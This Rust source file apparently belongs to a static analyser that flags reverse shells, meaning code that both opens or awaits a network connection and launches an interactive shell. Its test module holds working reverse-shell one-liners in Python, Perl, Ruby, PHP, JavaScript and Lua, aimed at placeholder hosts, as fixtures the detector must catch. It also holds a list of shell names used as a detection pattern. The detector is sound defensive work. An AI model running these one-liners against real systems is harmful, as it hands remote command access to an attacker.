//! Code that connects to another machine, or waits for it, and starts a shell that takes its commands from there.
//!
//! Told by both standing in one text: which descriptor leads where is not followed.

use super::{Act, ActTarget, Reading};
use crate::analysis::EffectKind;

/// Tells that a shell is handed over, where the text connects and starts one.
pub(super) fn tell(reading: &mut Reading) {
    let Some(target) = reading.acts.iter().find_map(connection) else { return };
    if reading.acts.iter().any(is_open_shell) {
        let kind = EffectKind::Network;
        reading.act(Act::Effect { kind, verb: "reverse-shell", target, recursive: false, taint: Vec::new() });
    }
}

/// The other end of a connection that is opened or awaited.
fn connection(act: &Act) -> Option<ActTarget> {
    match act {
        Act::Effect { kind: EffectKind::Network, verb: "send", target: target @ ActTarget::Host(_), .. }
        | Act::Effect { kind: EffectKind::Network, verb: "listen", target, .. } => Some(target.clone()),
        Act::Effect { .. } | Act::Sql { .. } | Act::Shell { .. } | Act::Command { .. } | Act::Code { .. } => None,
    }
}

/// Whether a shell is started that reads its commands from wherever its input leads.
fn is_open_shell(act: &Act) -> bool {
    match act {
        Act::Command { argv, .. } => {
            let words: Vec<&str> = argv.iter().map(|word| word.literal().unwrap_or("<unknown>")).collect();
            takes_commands(&words)
        }
        Act::Shell { text, .. } => takes_commands(&text.split_whitespace().collect::<Vec<_>>()),
        Act::Effect { .. } | Act::Sql { .. } | Act::Code { .. } => false,
    }
}

fn takes_commands(words: &[&str]) -> bool {
    const SHELLS: [&str; 10] = ["sh", "bash", "zsh", "dash", "ksh", "ash", "csh", "cmd", "powershell", "pwsh"];
    let words = match words {
        ["exec" | "env", rest @ ..] => rest,
        words => words,
    };
    let Some((program, rest)) = words.split_first() else { return false };
    let name = program.rsplit(['/', '\\']).next().unwrap_or(program);
    let name = name.strip_suffix(".exe").unwrap_or(name);
    let is_quiet_option =
        |word: &str| matches!(word, "-i" | "-l" | "-li" | "-il" | "-p" | "-s" | "--login" | "-q" | "/q" | "-nop" | "&");
    SHELLS.contains(&name) && rest.iter().all(|word| is_quiet_option(word) || word.contains(['<', '>']))
}

#[cfg(test)]
mod tests {
    use crate::analysis::EffectKind;
    use crate::code::{Act, Language, read};

    fn hands_over(language: Language, text: &str) -> bool {
        let told = |act: &Act| matches!(act, Act::Effect { kind: EffectKind::Network, verb: "reverse-shell", .. });
        read(language, text).acts.iter().any(told)
    }

    #[test]
    fn a_connection_and_a_shell_are_a_reverse_shell() {
        for (language, text) in [
            (
                Language::Python,
                "import socket,subprocess,os\ns=socket.socket()\ns.connect(('203.0.113.9',4444))\nos.dup2(s.fileno(),0)\nsubprocess.call(['/bin/sh','-i'])",
            ),
            (
                Language::Python,
                "import pty,socket as k\ns=k.create_connection(('h.example.com',1))\npty.spawn('/bin/bash')",
            ),
            (
                Language::Perl,
                "use Socket;socket(S,PF_INET,SOCK_STREAM,6);connect(S,sockaddr_in(4444,inet_aton('203.0.113.9')));exec('/bin/sh -i');",
            ),
            (
                Language::Ruby,
                "require 'socket';f=TCPSocket.open('203.0.113.9',4444).to_i;exec sprintf('/bin/sh -i <&%d >&%d 2>&%d',f,f,f)",
            ),
            (Language::Php, "$s=fsockopen('203.0.113.9',4444);exec('/bin/sh -i <&3 >&3 2>&3');"),
            (
                Language::JavaScript,
                "const sh=require('child_process').spawn('/bin/sh',[]);const c=new (require('net').Socket)();c.connect(4444,'203.0.113.9',()=>{c.pipe(sh.stdin)})",
            ),
            (
                Language::Lua,
                "local s=require('socket');local t=s.tcp();t:connect('203.0.113.9',4444);os.execute('/bin/sh -i <&3 >&3 2>&3')",
            ),
        ] {
            assert!(hands_over(language, text), "{text}");
        }
    }

    #[test]
    fn one_of_both_is_none() {
        for (language, text) in [
            (Language::Python, "import socket\ns=socket.socket()\ns.connect(('db.example.com',5432))\nprint('up')"),
            (Language::Python, "import subprocess\nsubprocess.call(['/bin/sh','-c','ls'])"),
            (
                Language::Python,
                "import socket,subprocess\nsocket.create_connection(('db.example.com',5432))\nsubprocess.run(['bash','-c','make'])",
            ),
            (Language::JavaScript, "require('child_process').spawn('/bin/sh',[])"),
        ] {
            assert!(!hands_over(language, text), "{text}");
        }
    }
}
